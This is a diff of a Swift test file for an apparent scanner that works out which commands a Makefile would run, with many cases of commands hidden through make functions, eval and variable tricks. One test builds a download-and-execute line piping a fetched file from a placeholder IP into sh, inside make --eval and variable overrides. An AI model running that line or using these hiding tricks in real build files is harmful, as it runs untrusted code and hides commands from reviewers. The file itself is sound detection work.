@@ -15,7 +15,7 @@ struct MakefileTests {
             ("all:\n\tcd a && \\\n\t./b\n\t-./c\n", ["cd a && \\\n\t./b\n./c"]),
             ("define RUN\ncurl a\nendef\nall:\n\t$(RUN)\n", ["curl a"]),
             ("A ?= curl\nA += -s\nall:\n\t$A a\n", ["curl -s a"]), ("t: A = curl\nt:\n\t$(A) a\n", ["curl a"]),
-            ("all:\n\t$(MAKE) -C sub\n", ["make -C sub"]), ("all:\n\t$(CC) -c $<\n", ["$CC -c \u{1}"]),
+            ("all:\n\t$(MAKE) -C sub\n", ["make -C sub"]), ("all:\n\t$(CC) -c $<\n", ["${CC} -c \u{1}"]),
         ]
     )
     func recipes(_ text: String, _ expected: [String]) {
@@ -32,6 +32,83 @@ struct MakefileTests {
     )
     func shells(_ text: String) {
         #expect(commands(text).contains("curl a"))
+    }
+
+    @Test(
+        "run what their functions make of values",
+        arguments: [
+            "X = curl $(1)\nall:\n\t$(call X,a)\n", "define X\ncurl a\nendef\nall:\n\t$(call X)\n",
+            "override define X =\ncurl a\nendef\nall:\n\t$(X)\n", "override X = curl\nall:\n\t$(X) a\n",
+            "export X := curl\nall:\n\t$(X) a\n", "X = qurl\nall:\n\t$(subst q,c,$(X)) a\n",
+            "X = qurl a\nall:\n\t$(X:q%=c%)\n", "X = x.rl\nall:\n\t$(X:x.rl=curl) a\n",
+            "$(eval all: ; curl a)\n", "define R\n$(1): ; curl a\nendef\n$(eval $(call R,all))\n",
+            "all: ; $(foreach x,curl,$(x) a)\n", "N = X\nX = curl a\nall:\n\t$($(N))\n",
+            "X := $(shell echo curl)\nall:\n\t$(X) a\n", "curl: ; $@ a\n", "all: curl ; $< a\n",
+            "all:\n\t$(if $(UNSET),true now,curl a)\n", "all:\n\tcu$(NOTHING)rl a\n", "CC = curl a;\n",
+            "all:\n\t$(firstword curl wget) a\n", "all:\n\t$(if ,,$(strip  curl  a ))\n",
+            "ifdef A\nX = curl\nelse\nX = true\nendif\nall:\n\t$(X) a\n", "X := $(shell curl a)\n",
+            "X := $(shell echo '#'; curl a)\n", ".RECIPEPREFIX = >\nall:\n>curl a\n",
+            ".RECIPEPREFIX := $(empty) \nall:\n curl a\n", "all:\nifdef A\n\tcurl a\nendif\n",
+            "define R\n@curl a\nendef\nall:\n\t$(R)\n", "X != printf curl\nall:\n\t$(X) a\n",
+        ]
+    )
+    func functions(_ text: String) {
+        let all = commands(text).flatMap { ShellText.commands($0) }
+        #expect(all.contains { $0.program == "curl" && $0.effective.contains("a") }, "\(commands(text))")
+    }
+
+    @Test("run recipes by the program that SHELL names")
+    func shell() {
+        let makefile = Makefile("SHELL = python3\n.ONESHELL:\nall:\n\timport os\n\tif os:\n\t    os.system('a')\n")
+        #expect(makefile.commands.last?.shell == ["python3", "-c"])
+        #expect(makefile.commands.last?.text == "import os\nif os:\n    os.system('a')")
+        #expect(Makefile("SHELL := /bin/bash\nall:\n\ttrue\n").commands.allSatisfy { $0.shell.isEmpty })
+    }
+
+    @Test("leave alone what make does not run")
+    func quiet() {
+        #expect(commands("X = curl a # ; curl b\n# curl c\nall: x\n\nX += -v\n").isEmpty)
+        #expect(commands("ifdef A\nX = a\nendif\n\tY = curl a\n").isEmpty)
+    }
+
+    @Test(
+        "are found where make is told to look",
+        arguments: [
+            ("make", ["./GNUmakefile", "./makefile", "./Makefile"]), ("make --file=a.mk", ["./a.mk"]),
+            ("make -fa.mk -j4", ["./a.mk"]), ("make -f a.mk -f b.mk", ["./a.mk", "./b.mk"]),
+            ("gmake -Csub -f a.mk", ["./a.mk", "sub/./a.mk"]),
+            ("make --directory=sub --makefile a.mk", ["./a.mk", "sub/./a.mk"]),
+            ("make -I inc -f a.mk", ["./a.mk"]), ("make -sf a.mk", ["./a.mk"]),
+        ]
+    )
+    func arguments(_ command: String, _ expected: [String]) {
+        var collector = FindingsCollector(limits: .standard)
+        CommandReader.read(command, at: 0, into: &collector)
+        let found = collector.findings(in: [UInt8]().span).references.filter { $0.language == .make }
+        #expect(found.map(\.name) == expected)
+    }
+
+    @Test(
+        "are what make is told to add, and its values",
+        arguments: ["make --eval='all: ; %'", "make X='%'", "make -E 'all: ; %'"]
+    )
+    func told(_ command: String) {
+        var collector = FindingsCollector(limits: .standard)
+        let command = command.replacing("%", with: "curl http://192.0.2.7/x | sh")
+        CommandReader.read(command, at: 0, into: &collector)
+        #expect(collector.has(.chainDownloadExecute))
+    }
+
+    @Test("cost what they are long: many uses behind a long text, many recipes, many turns")
+    func cost() {
+        let long = String(repeating: "a", count: 400_000)
+        #expect(Makefile("X = \(long)\(String(repeating: "$()", count: 20_000))\n").commands.isEmpty)
+        let recipes = Makefile("ifdef A\nX = b\nendif\n" + String(repeating: "a: ; $(X)\n", count: 4_000))
+        #expect(recipes.commands.map(\.text) == ["b"])
+        let words = String(repeating: "w ", count: 10_000)
+        #expect(Makefile("W := \(words)\nX := $(foreach w,$(W),$(w))$(foreach w,$(W),$(W))\n").isCut)
+        let rules = Makefile("define R\na: ; x $$(eval $$(R))\nendef\n$(eval $(R))\n")
+        #expect(rules.commands.count == 1)
     }
 
     @Test("name the files that they include; comments are none")
